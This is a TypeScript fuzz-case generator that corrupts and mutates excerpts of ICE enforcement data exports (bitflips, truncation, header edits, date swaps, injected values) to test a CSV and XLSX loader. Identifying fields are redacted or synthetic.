  format: 'xlsx' | 'csv';
  /** csv: the delimiter and the raw preamble lines. */
  delimiter: string;
  rawPreamble: string[];
  /** True when the rows are synthetic (the detainer excerpt: no row-level detainer file is public). */
  synthetic: boolean;
  sheets: ExcerptSheet[];
}

/** Splits one pipe-delimited line of ICE's exports (fields quoted with ", no delimiter inside quotes). */
function splitDelimited(line: string, d: string): string[] {
  const out: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === d) {
      out.push(field);
      field = '';
    } else field += ch;
  }
  out.push(field);
  return out;
}

async function gzipHead(file: string, bytes: number): Promise<string> {
  // Only the start: inflate chunk by chunk until enough text is out, then stop.
  const { createReadStream } = await import('node:fs');
  const { createGunzip } = await import('node:zlib');
  const parts: Buffer[] = [];
  let got = 0;
  const gunzip = createReadStream(file).pipe(createGunzip());
  for await (const chunk of gunzip) {
    parts.push(chunk as Buffer);
    got += (chunk as Buffer).length;
    if (got >= bytes) break;
  }
  gunzip.destroy();
  return Buffer.concat(parts).toString('utf8');
}

function syntheticDetainerExcerpt(): Excerpt {
  // The July 2025 detainer layout (65 published headers) with rows of ICE's own vocabularies: the
  // vocabulary and territory mutations need detainer columns (lift reason, type, facility state and AOR).
  const r = prng(21_005);
  const headers = FAMILY_HEADERS.detainers!;
  const lift = ['Booked into Detention', 'Detainer Declined by LEA', 'Lifted', 'Case Closed', 'Transferred', 'Not Amenable to Removal', 'USC or Presumptive Claim to US Citizenship', null];
  const types = ['I247A - Immigration Detainer - Notice of Action', 'I247N - Immigration Advisal - Request for Notification', 'I247D - Immigration Detainer - Request for Action'];
  const states = ['TEXAS', 'CALIFORNIA', 'FLORIDA', 'NEW YORK', 'MASSACHUSETTS'];
  const aors = ['Houston Area of Responsibility', 'Los Angeles Area of Responsibility', 'Miami Area of Responsibility', 'New York City Area of Responsibility', 'Boston Area of Responsibility'];
  const rows = Array.from({ length: EXCERPT_ROWS }, (_, i) =>
    headers.map((h): ExcerptCell => {
      if (h === 'Detainer Lift Reason') return pick(r, lift);
      if (h === 'Detainer Type') return pick(r, types);
      if (h === 'Facility State') return pick(r, states);
      if (h === 'Facility AOR') return pick(r, aors);
      if (h === 'Gender') return pick(r, ['Male', 'Female', 'Unknown']);
      if (/criminality/i.test(h)) return pick(r, ['1 Convicted Criminal', '2 Pending Criminal Charges', '3 Other Immigration Violator']);
      if (/birth date|alien file|eid /i.test(h)) return 'b(6), b(7)(c)';
      if (/date/i.test(h)) return r() < 0.85 ? { date: `2024-${String(1 + (i % 12)).padStart(2, '0')}-${String(1 + int(r, 28)).padStart(2, '0')}` } : null;
      if (/identifier/i.test(h)) return `P${1000 + i}`;
      if (/yes no/i.test(h)) return pick(r, ['YES', 'NO', null]);
      if (/year/i.test(h)) return 1950 + int(r, 55);
      return r() < 0.5 ? pick(r, ['MEXICO', 'GUATEMALA', 'HARRIS COUNTY JAIL', 'ACTIVE', 'Unknown']) : null;
    }),
  );
  return { id: 'detainers-published-layout', source: '', format: 'xlsx', delimiter: '', rawPreamble: [], synthetic: true, sheets: [{ name: 'Sheet1', preamble: SIX_PREAMBLE.map((l) => [l]), header: [...headers], rows }] };
}

let realCache: Promise<{ excerpts: Excerpt[]; raw: { name: string; bytes: Buffer; head: boolean }[] }> | undefined;
/** The excerpts and real bytes, read once per process. */
export function realMaterial(): Promise<{ excerpts: Excerpt[]; raw: { name: string; bytes: Buffer; head: boolean }[] }> {
  realCache ??= (async () => {
    if (!REAL_AVAILABLE) throw new Error(REAL_MISSING_MESSAGE);
    const { readFile, readdir, open } = await import('node:fs/promises');
    const { XlsxWorkbook } = await import('../../src/xlsx/index.ts');
    const excerpts: Excerpt[] = [];
    for (const file of FY2016_FILES) {
      const lines = (await gzipHead(path.join(REAL_DIR, file), 64 * 1024)).split(/\r?\n/);
      const header = splitDelimited(lines[5]!, '|');
      const rows = lines.slice(6, 6 + EXCERPT_ROWS).map((l) => splitDelimited(l, '|').map((v): ExcerptCell => (v === '' ? null : v)));
      excerpts.push({
        id: file.replace(/_FY2016\.csv\.gz$/, '').toLowerCase(),
        source: file,
        format: 'csv',
        delimiter: '|',
        rawPreamble: lines.slice(0, 5),
        synthetic: false,
        sheets: [{ name: 'csv', preamble: [], header, rows }],
      });
    }
    const wb = await XlsxWorkbook.open(path.join(REAL_DIR, SEATTLE_FILE));
    const sheets: ExcerptSheet[] = [];
    try {
      for (const info of wb.sheets) {
        const got: ExcerptCell[][] = [];
        for await (const batch of wb.rowBatches(info.name, 6 + EXCERPT_ROWS)) {
          for (const row of batch) got[row.rowNumber - 1] = row.cells;
          break;
        }
        const all = Array.from({ length: got.length }, (_, i) => got[i] ?? []);
        // Date-styled cells arrive as ISO text: written back as date cells.
        const asDates = (row: ExcerptCell[]) => row.map((c) => (typeof c === 'string' && /^\d{4}-\d\d-\d\d$/.test(c) ? { date: c } : c));
        sheets.push({ name: info.name, preamble: all.slice(0, 5), header: all[5]!.map((c) => (c === null ? null : String(c))), rows: all.slice(6, 6 + EXCERPT_ROWS).map(asDates) });
      }
    } finally {
      await wb.close();
    }
    excerpts.push({ id: 'seattle-2018-ICFO-36170', source: SEATTLE_FILE, format: 'xlsx', delimiter: '', rawPreamble: [], synthetic: false, sheets });
    excerpts.push(syntheticDetainerExcerpt());
    const raw: { name: string; bytes: Buffer; head: boolean }[] = [];
    for (const name of (await readdir(REAL_DIR)).filter((f) => /\.(xlsx|gz)$/i.test(f)).sort()) {
      if (name.endsWith('.gz')) {
        const h = await open(path.join(REAL_DIR, name), 'r');
        try {
          const buf = Buffer.alloc(REAL_GZ_HEAD);
          const { bytesRead } = await h.read(buf, 0, REAL_GZ_HEAD, 0);
          raw.push({ name, bytes: buf.subarray(0, bytesRead), head: true });
        } finally {
          await h.close();
        }
      } else raw.push({ name, bytes: await readFile(path.join(REAL_DIR, name)), head: false });
    }
    return { excerpts, raw };
  })();
  return realCache;
}

/** A copy of an excerpt cut to a random number of rows per sheet (so cases vary in size, and stay small). */
function cutExcerpt(r: Rnd, e: Excerpt): Excerpt {
  return {
    ...e,
    sheets: e.sheets.map((s) => ({ ...s, header: [...s.header], preamble: s.preamble, rows: s.rows.slice(0, 2 + int(r, e.sheets.length > 1 ? 12 : s.rows.length - 1)).map((row) => [...row]) })),
  };
}

const dataRows = (e: Excerpt): number => e.sheets.reduce((n, s) => n + s.rows.length, 0);

/** The container an excerpt is written in. */
type Wrap = 'plain' | 'gzip' | 'zip';

function csvText(e: Excerpt, eol = '\r\n'): string {
  const d = e.delimiter;
  const q = (c: ExcerptCell): string => {
    if (c === null) return '';
    if (typeof c === 'number') return String(c);
    if (typeof c === 'object') return c.date;
    // ICE quotes text and leaves M/D/YYYY dates bare.
    return /^\d{1,2}\/\d{1,2}\/\d{2,4}$/.test(c) || /^\d+(\.\d+)?$/.test(c) ? c : `"${c.replace(/"/g, '""')}"`;
  };
  const s = e.sheets[0]!;
  return [...e.rawPreamble, s.header.map((h) => q(h)).join(d), ...s.rows.map((row) => row.map(q).join(d))].join(eol) + eol;
}

async function xlsxOf(sheets: ExcerptSheet[]): Promise<Buffer> {
  const { readFile, rm } = await import('node:fs/promises');
  const tmp = path.join(process.env.HANDOFF_FUZZ_SCRATCH ?? '/tmp', `fuzz-real-${process.pid}-${xlsxCounter++}.xlsx`);
  await writeXlsx(tmp, sheets.map((s) => ({ name: s.name, rows: [...s.preamble, s.header, ...s.rows] as XlsxWriteCell[][] })));
  const buf = await readFile(tmp);
  await rm(tmp, { force: true });
  return buf;
}
let xlsxCounter = 0;

/** An excerpt as file bytes, and the name to give them. */
async function excerptFile(r: Rnd, e: Excerpt, tag: string, wrap?: Wrap): Promise<{ name: string; bytes: Buffer; wrap: Wrap }> {
  if (e.format === 'xlsx') return { name: `${e.id}-${tag}.xlsx`, bytes: await xlsxOf(e.sheets), wrap: 'plain' };
  const w = wrap ?? pick(r, ['plain', 'gzip', 'gzip', 'zip'] as const);
  const text = Buffer.from(csvText(e, pick(r, ['\r\n', '\n'])), 'utf8');
  const base = `${e.id}-${tag}.csv`;
  if (w === 'gzip') return { name: `${base}.gz`, bytes: gzipSync(text), wrap: w };
  if (w === 'zip') return { name: `${e.id}-${tag}.zip`, bytes: buildZip([{ name: base, data: text }]), wrap: w };
  return { name: base, bytes: text, wrap: w };
}

async function pickExcerpt(r: Rnd, filter: (e: Excerpt) => boolean = () => true): Promise<Excerpt> {
  const { excerpts } = await realMaterial();
  return cutExcerpt(r, pick(r, excerpts.filter(filter)));
}

// Dates: ISO, US m/d/yyyy, Excel serials (and ISO date-times), each read back from any of them.
const DAY_MS = 86_400_000;
function dateParts(c: ExcerptCell): { y: number; m: number; d: number } | null {
  const text = typeof c === 'object' && c !== null ? c.date : typeof c === 'string' ? c : null;
  if (!text) return null;
  let m = text.match(/^(\d{4})-(\d\d)-(\d\d)/);
  if (m) return { y: +m[1]!, m: +m[2]!, d: +m[3]! };
  m = text.match(/^(\d{1,2})\/(\d{1,2})\/(\d{4})$/);
  if (m) return { y: +m[3]!, m: +m[1]!, d: +m[2]! };
  return null;
}
type DateFormat = 'iso' | 'us' | 'serialNumber' | 'serialText' | 'isoDateTime' | 'dateCell';
function formatDate(p: { y: number; m: number; d: number }, f: DateFormat, xlsx: boolean): ExcerptCell {
  const iso = `${p.y}-${String(p.m).padStart(2, '0')}-${String(p.d).padStart(2, '0')}`;
  const serial = Math.round((Date.UTC(p.y, p.m - 1, p.d) - Date.UTC(1899, 11, 30)) / DAY_MS);
  switch (f) {
    case 'iso':
      return iso;
    case 'us':
      return `${p.m}/${p.d}/${p.y}`;
    case 'serialNumber':
      return xlsx ? serial : String(serial);
    case 'serialText':
      return String(serial);
    case 'isoDateTime':
      return `${iso}T${String(int(prng(serial), 24)).padStart(2, '0')}:30:00`;
    default:
      return xlsx ? { date: iso } : iso;
  }
}

const TERRITORIES = ['GU', 'VI', 'MP', 'AS', 'PR', 'GUAM', 'Guam', 'U.S. VIRGIN ISLANDS', 'Virgin Islands', 'NORTHERN MARIANA ISLANDS', 'Northern Mariana Islands', 'AMERICAN SAMOA', 'American Samoa', 'PUERTO RICO', 'Puerto Rico', 'San Juan Area of Responsibility', 'Guam Sub-Office', 'SAIPAN', 'ST. THOMAS'];
/** Columns a territory can turn up in: states, AORs, places. */
const PLACE_HEADER = /state|area of responsibility|\baor\b|city|landmark|site|country|citizenship|port/i;
/** Coded columns with a vocabulary (or a list of known values). */
const VOCAB_HEADER = /lift reason|detainer type|state|area of responsibility|\baor\b|method|disposition|gender|criminality|case status|threat level|program|operation|charge section|removal case/i;

function vocabValue(r: Rnd, header: string): string {
  const n = int(r, 1e6);
  if (/lift reason/i.test(header)) return pick(r, [`Lifted - Reason Never Seen ${n}`, 'Released on Own Recognizance by Court Order', 'Detainer Honored in Part']);
  if (/detainer type/i.test(header)) return pick(r, [`I247Z - Immigration Detainer - Unknown Form ${n}`, 'I-247X', 'I247G - Request for Voluntary Transfer']);
  if (/state/i.test(header)) return pick(r, ['ZZ', 'ATLANTIS', 'NEW COLUMBIA', `STATE ${n}`]);
  if (/area of responsibility|\baor\b/i.test(header)) return pick(r, [`Atlantis Area of Responsibility`, 'Honolulu Area of Responsibility', `AOR ${n}`]);
  if (/gender/i.test(header)) return pick(r, ['X', 'Nonbinary', 'U']);
  return pick(r, [`Never Seen Value ${n}`, 'Other - New Code', `CODE-${n}`]);
}

/** The rows of a mutated excerpt: every row of every sheet, the count the store must show. */
function valueCase(e: Excerpt, injected: InjectedValue[], file: { name: string; bytes: Buffer }): Made {
  return {
    fileName: file.name,
    bytes: file.bytes,
    expect: { outcome: 'load', rows: dataRows(e) },
    ...(injected.length ? { injected } : {}),
  };
}

/** Family of an excerpt sheet, from its header (for the injected-value checks). */
function sheetFamily(s: ExcerptSheet): string {
  const h = s.header.join('|').toLowerCase();
  if (h.includes('detainer')) return 'detainers';
  if (/removal|departed/.test(h)) return 'removals';
  if (/arrest|apprehension/.test(h)) return 'arrests';
  return 'encounters';
}

/** Puts `values(r, header)` into random cells of the columns whose header matches `columns`. */
function inject(r: Rnd, e: Excerpt, columns: RegExp, values: (r: Rnd, header: string) => string): InjectedValue[] {
  const out = new Map<string, InjectedValue>();
  for (const s of e.sheets) {
    const targets = s.header.map((h, i) => [h, i] as const).filter(([h]) => h !== null && columns.test(h));
    if (!targets.length) continue;
    const chosen = targets.filter(() => r() < 0.6);
    if (!chosen.length) chosen.push(pick(r, targets));
    for (const [h, col] of chosen) {
      for (const row of s.rows) {
        if (r() < 0.5) continue;
        const v = values(r, h!);
        row[col] = v;
        const key = `${s.name}\u0000${h}\u0000${v}`;
        const family = sheetFamily(s);
        const got = out.get(key) ?? { family, header: h!, value: v, cells: 0 };
        got.cells++;
        out.set(key, got);
      }
    }
  }
  // One entry per (family, header, value), summed over sheets.
  const merged = new Map<string, InjectedValue>();
  for (const v of out.values()) {
    const key = `${v.family}\u0000${v.header}\u0000${v.value}`;
    const m = merged.get(key);
    if (m) m.cells += v.cells;
    else merged.set(key, { ...v });
  }
  return [...merged.values()];
}

const REAL_MAKERS: Record<string, Maker> = {
  async realBitflip(r) {
    const e = await pickExcerpt(r);
    const file = await excerptFile(r, e, 'flipped');
    const b = Buffer.from(file.bytes);
    for (let f = 1 + int(r, 4); f > 0; f--) b[int(r, b.length)]! ^= 1 << int(r, 8);
    // A zip, xlsx or gzip is checksummed: damage that reads must read the same records. Plain text is not.
    const checked = file.wrap !== 'plain' || e.format === 'xlsx';
    return { fileName: file.name, bytes: b, expect: { outcome: 'either' }, ...(checked ? { pristineBytes: file.bytes } : {}) };
  },
  async realTruncate(r) {
    if (r() < 0.5) {
      // The real bytes themselves, cut anywhere: never a complete file, so always refused.
      const { raw } = await realMaterial();
      const f = pick(r, raw);
      return { fileName: f.name.replace(/[^\w.-]+/g, '_'), bytes: f.bytes.subarray(0, int(r, f.bytes.length)), expect: { outcome: 'error' } };
    }
    const e = await pickExcerpt(r);
    const file = await excerptFile(r, e, 'truncated');
    const at = int(r, file.bytes.length);
    // Cut plain text reads as fewer rows or not at all; a cut xlsx, zip or gzip never reads.
    return { fileName: file.name, bytes: file.bytes.subarray(0, at), expect: file.wrap === 'plain' && e.format === 'csv' ? { outcome: 'either' } : { outcome: 'error' } };
  },
  async realHeaderEdit(r) {
    const e = await pickExcerpt(r, (x) => !x.synthetic);
    const s = pick(r, e.sheets);
    const named = s.header.map((h, i) => [h, i] as const).filter(([h]) => h !== null && h.trim() !== '');
    const [h, at] = pick(r, named);
    const edit = pick(r, ['case', 'spacing', 'rename', 'blank', 'dropColumn', 'duplicate', 'extraColumn'] as const);
    const n = dataRows(e);
    let cosmetic = false;
    if (edit === 'case') {
      s.header[at] = r() < 0.5 ? h!.toUpperCase() : h!.toLowerCase();
      cosmetic = true;
    } else if (edit === 'spacing') {
      s.header[at] = r() < 0.5 ? `  ${h}  ` : h!.replace(/ /g, '_');
      cosmetic = true;
    } else if (edit === 'rename') s.header[at] = `${h} Renamed ${int(r, 1000)}`;
    else if (edit === 'blank') s.header[at] = null;
    else if (edit === 'dropColumn') {
      s.header.splice(at, 1);
      for (const row of s.rows) row.splice(at, 1);
    } else if (edit === 'duplicate') {
      const [other] = pick(r, named.filter(([, i]) => i !== at).length ? named.filter(([, i]) => i !== at) : named);
      s.header[at] = other;
    } else {
      s.header.push(`Injected Column ${int(r, 1000)}`);
      for (const row of s.rows) row.push(r() < 0.5 ? `x${int(r, 100)}` : null);
      cosmetic = true;
    }
    const file = await excerptFile(r, e, `header-${edit}`);
    // Folded names (case, spacing, underscores) and an unknown extra column change nothing: every row
    // loads. Other edits may make the sheet unrecognisable (refused); when the file loads, every row does.
    return { fileName: file.name, bytes: file.bytes, expect: cosmetic ? { outcome: 'load', rows: n } : { outcome: 'either', rowsIfLoaded: n } };
  },
  async realDropSheet(r) {
    const e = await pickExcerpt(r, (x) => x.sheets.length > 1);
    const variant = pick(r, ['omit', 'omit', 'unlisted', 'partMissing'] as const);
    const keep = e.sheets.filter(() => r() < 0.6);
    if (keep.length === 0 || keep.length === e.sheets.length) keep.splice(0, keep.length, ...e.sheets.slice(0, 1 + int(r, e.sheets.length - 1)));
    if (variant === 'omit') {
      const kept: Excerpt = { ...e, sheets: keep };
      return { fileName: `${e.id}-dropped-sheets.xlsx`, bytes: await xlsxOf(keep), expect: { outcome: 'load', rows: dataRows(kept) } };
    }
    // Zip level: the workbook lists a sheet whose part is gone, or a part is there that no sheet lists.
    const bytes = await xlsxOf(e.sheets);
    const entries = await zipEntries(bytes);
    const dropped = e.sheets.map((s, i) => [s, i] as const).filter(([s]) => !keep.includes(s));
    const workbook = entries.find((x) => x.name === 'xl/workbook.xml')!;
    const rels = entries.find((x) => x.name === 'xl/_rels/workbook.xml.rels')!;
    const relTargets = parseRels(rels.data.toString('utf8'));
    const ids = parseSheetIds(workbook.data.toString('utf8'));
    const droppedParts = dropped.map(([, i]) => `xl/${relTargets.get(ids[i]!)!.replace(/^\/?xl\//, '')}`);
    if (variant === 'partMissing') {
      return { fileName: `${e.id}-sheet-part-missing.xlsx`, bytes: buildZip(entries.filter((x) => !droppedParts.includes(x.name))), expect: { outcome: 'error' } };
    }
    let xml = workbook.data.toString('utf8');
    for (const [s] of dropped) xml = xml.replace(new RegExp(`<sheet [^>]*name="${escapeRegExp(escapeXml(s.name))}"[^>]*/>`), '');
    const out = entries.map((x) => (x.name === 'xl/workbook.xml' ? { ...x, data: Buffer.from(xml, 'utf8') } : x));
    return { fileName: `${e.id}-sheets-unlisted.xlsx`, bytes: buildZip(out), expect: { outcome: 'load', rows: dataRows({ ...e, sheets: keep }) } };
  },
  async realDateSwap(r) {
    const e = await pickExcerpt(r);
    const xlsx = e.format === 'xlsx';
    const formats: DateFormat[] = xlsx ? ['iso', 'us', 'serialNumber', 'serialText', 'isoDateTime', 'dateCell'] : ['iso', 'us', 'serialText', 'isoDateTime'];
    const one = pick(r, formats);
    const mixed = r() < 0.3;
    for (const s of e.sheets) {
      s.header.forEach((h, col) => {
        if (h === null || !/date/i.test(h)) return;
        for (const row of s.rows) {
          const p = dateParts(row[col] ?? null);
          // Real files hold placeholder years (0001, 1800s) that no Excel date cell or serial can carry:
          // those stay as the source wrote them.
          if (p && p.y >= 1900 && p.y <= 9999) row[col] = formatDate(p, mixed ? pick(r, formats) : one, xlsx);
        }
      });
    }
    return valueCase(e, [], await excerptFile(r, e, `dates-${mixed ? 'mixed' : one}`));
  },
  async realTerritories(r) {
    const e = await pickExcerpt(r);
    const injected = inject(r, e, PLACE_HEADER, (rr) => pick(rr, TERRITORIES));
    return valueCase(e, injected, await excerptFile(r, e, 'territories'));
  },
  async realUnknownVocab(r) {
    const e = await pickExcerpt(r);
    const injected = inject(r, e, VOCAB_HEADER, vocabValue);
    return valueCase(e, injected, await excerptFile(r, e, 'unknown-values'));
  },
};

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** The entries of a zip made here (every entry read back whole). */
async function zipEntries(bytes: Buffer): Promise<{ name: string; data: Buffer }[]> {
  const { ZipArchive } = await import('../../src/xlsx/zip.ts');
  const { writeFile: write, rm } = await import('node:fs/promises');
  const tmp = path.join(process.env.HANDOFF_FUZZ_SCRATCH ?? '/tmp', `fuzz-zip-${process.pid}-${xlsxCounter++}.zip`);
  await write(tmp, bytes);
  try {
    const zip = await ZipArchive.open(tmp, 'fuzz', DEFAULT_LIMITS);
    const out: { name: string; data: Buffer }[] = [];
    for (const entry of zip.list()) out.push({ name: entry.name, data: await zip.readEntry(entry, 64 * 1024 * 1024) });
    return out;
  } finally {
    await rm(tmp, { force: true });
  }
}
function parseRels(xml: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of xml.matchAll(/<Relationship [^>]*>/g)) {
    const id = m[0].match(/Id="([^"]+)"/)?.[1];
    const target = m[0].match(/Target="([^"]+)"/)?.[1];
    if (id && target) out.set(id, target);
  }
  return out;
}
function parseSheetIds(xml: string): string[] {
  return [...xml.matchAll(/<sheet [^>]*>/g)].map((m) => m[0].match(/r:id="([^"]+)"/)?.[1] ?? '');
}

/** The real-file kinds and their weights in the mix (present only where ../shared is). */
const REAL_WEIGHTS: [string, number][] = [
  ['realBitflip', 8],
  ['realTruncate', 6],
  ['realHeaderEdit', 6],
  ['realDropSheet', 4],
  ['realDateSwap', 6],
  ['realTerritories', 5],
  ['realUnknownVocab', 5],
];
export const REAL_KINDS = REAL_WEIGHTS.map(([k]) => k);

/** Case kinds and their weights in the random mix (cheap kinds more often). */
const WEIGHTS: [string, number][] = [
  ['truncate', 14],
  ['bitflip', 22],
  ['overwrite', 10],
  ['zipBombRatio', 1],
  ['zipBombSize', 2],
  ['zipBombLie', 1],
  ['billionLaughs', 3],
  ['deepNesting', 2],
  ['hugeSst', 1],
  ['wideColumns', 1],
  ['wrongTypesXml', 8],
  ['wrongTypesWritten', 8],
  ['controlChars', 3],
  ['oddSheetXml', 5],
  ['manySheets', 1],
  ['csvBroken', 10],
  ['csvValid', 5],
  ['sharedPart', 1],
  ['csvNotUtf8', 2],
  ['tinyFiles', 3],
  ['notAFile', 2],
];
/** The synthetic kinds (always in the mix). */
export const KINDS = WEIGHTS.map(([k]) => k);
/** The mix: the synthetic kinds, and the real-file kinds where ../shared is. */
const MIX: [string, number][] = REAL_AVAILABLE ? [...WEIGHTS, ...REAL_WEIGHTS] : WEIGHTS;
const ALL_MAKERS: Record<string, Maker> = { ...MAKERS, ...REAL_MAKERS };

/** The case of a seed: the kind is drawn from the seed too, so a seed is all it takes to replay it. */
export async function makeCase(seed: number, kind?: string): Promise<FuzzCase> {
  const r = prng(seed);
  let chosen = kind;
  if (!chosen) {
    const total = MIX.reduce((s, [, w]) => s + w, 0);
    let x = r() * total;
    for (const [k, w] of MIX) {
      x -= w;
      if (x < 0) {
        chosen = k;
        break;
      }
    }
    chosen ??= 'bitflip';
  }
  const maker = ALL_MAKERS[chosen];
  if (!maker) throw new Error(`unknown fuzz kind ${chosen}`);
  if (REAL_KINDS.includes(chosen) && !REAL_AVAILABLE) throw new Error(REAL_MISSING_MESSAGE);
  const made = await maker(r, seed);
  const { bytes, make, pristineBytes, ...rest } = made;
  return {
    ...rest,
    seed,
    kind: chosen,
    async write(dir) {
      const file = path.join(dir, `${seed}-${made.fileName}`);
      if (make) await make(file);
      else await writeFile(file, bytes!);
      return file;
    },
    ...(pristineBytes
      ? {
          async pristine(dir: string) {
            const file = path.join(dir, `${seed}-${made.fileName}`);
            await writeFile(file, pristineBytes);
            return file;
          },
        }
      : {}),
  };
}
